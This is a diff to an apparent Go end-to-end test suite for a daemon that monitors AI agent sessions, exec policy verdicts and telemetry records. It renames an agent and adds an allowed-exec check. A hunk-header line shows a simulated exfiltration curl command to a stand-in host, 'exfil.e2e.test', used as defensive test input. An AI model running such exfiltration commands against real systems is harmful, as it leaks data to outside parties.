@@ -11,6 +11,7 @@ import (
 	"os/exec"
 	"path/filepath"
 	"strconv"
+	"slices"
 	"strings"
 	"sync"
 	"sync/atomic"
@@ -405,7 +406,7 @@ curl -fsS --cacert "$1" --resolve "exfil.e2e.test:$3:127.0.34.3" "https://exfil.
 		if out, err := exec.Command(worker, "exec", "true").CombinedOutput(); err != nil {
 			t.Fatalf("%v: %s", err, out)
 		}
-		if err := os.WriteFile(cfg, []byte(daemonConfig+"  - name: worker\n    commands: [worker2]\n"), 0o644); err != nil {
+		if err := os.WriteFile(cfg, []byte(daemonConfig+"  - name: reloaded\n    commands: [worker2]\n"), 0o644); err != nil {
 			t.Fatal(err)
 		}
 		d.cmd.Process.Signal(syscall.SIGHUP)
@@ -417,9 +418,9 @@ curl -fsS --cacert "$1" --resolve "exfil.e2e.test:$3:127.0.34.3" "https://exfil.
 		if out, err := cmd.CombinedOutput(); err != nil {
 			t.Fatalf("%v: %s", err, out)
 		}
-		w.waitSession(t, "worker", cmd.Process.Pid)
-		if n := len(w.sessionsOf("worker")); n != 1 {
-			t.Errorf("%d sessions of worker, want 1 (the run after the good reload)", n)
+		w.waitSession(t, "reloaded", cmd.Process.Pid)
+		if n := len(w.sessionsOf("reloaded")); n != 1 {
+			t.Errorf("%d sessions of the reloaded agent, want 1 (the run after the good reload)", n)
 		}
 	})
 
@@ -641,7 +642,12 @@ default: allow
 		t.Errorf("the exec's record: rule %q reason %q", r.Rule, r.Reason)
 	}
 	// Allowed execs are recorded too.
+	cmd = exec.Command(claude, "exec", "sh", "-c", "sleep 0.3", "allowed")
+	if out, err := cmd.CombinedOutput(); err != nil {
+		t.Fatalf("%v: %s", err, out)
+	}
+	s = w.waitSession(t, "claude", cmd.Process.Pid)
 	w.waitRecord(t, "the agent's allowed exec", func(r telemetry.Record) bool {
-		return r.Session == s.Session && r.Kind == event.KindExec && r.Verdict == event.Allow
+		return r.Session == s.Session && r.Kind == event.KindExec && r.Verdict == event.Allow && slices.Contains(r.Process.Argv, "allowed")
 	})
 }
